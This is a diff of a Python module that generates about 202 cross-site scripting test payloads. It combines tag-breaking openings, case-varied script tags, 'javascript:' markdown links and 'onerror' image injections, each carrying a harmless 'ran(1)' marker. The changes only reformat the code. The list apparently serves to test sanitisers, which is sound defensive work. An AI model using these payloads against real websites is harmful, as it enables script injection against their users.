@@ -5,18 +5,7 @@ from __future__ import annotations
 from itertools import product
 
 RAN = "ran(1)"
-_OPENINGS = (
-    "",
-    '">',
-    "'>",
-    "</textarea>",
-    "</title>",
-    "</script>",
-    "</style>",
-    "]]>",
-    "-->",
-    "</text></svg>",
-)
+_OPENINGS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "]]>", "-->", "</text></svg>")
 _ELEMENTS = (
     "<script>{}</script>",
     "<ScRiPt >{}</sCrIpT>",
@@ -37,7 +26,7 @@ _ELEMENTS = (
 _MARKED = (
     "[look](javascript:{})",
     "[look](JaVaScRiPt&colon;{})",
-    '![x](x"onerror="{})',
+    "![x](x\"onerror=\"{})",
     "<javascript:{}>",
     "[x]: javascript:{}",
     "`<img src=x onerror={}>`",
@@ -64,9 +53,6 @@ PAYLOADS = (
     [opening + element.format(RAN) for opening, element in product(_OPENINGS, _ELEMENTS)]
     + [one.format(RAN) for one in _MARKED]
     + [one.replace("{}", RAN) for one in _ATTRIBUTES]
-    + [
-        f"{one}\n{two}"
-        for one, two in product(("line", "=1+1", "* item"), [e.format(RAN) for e in _ELEMENTS[:10]])
-    ]
+    + [f"{one}\n{two}" for one, two in product(("line", "=1+1", "* item"), [e.format(RAN) for e in _ELEMENTS[:10]])]
 )
 """202 of them."""
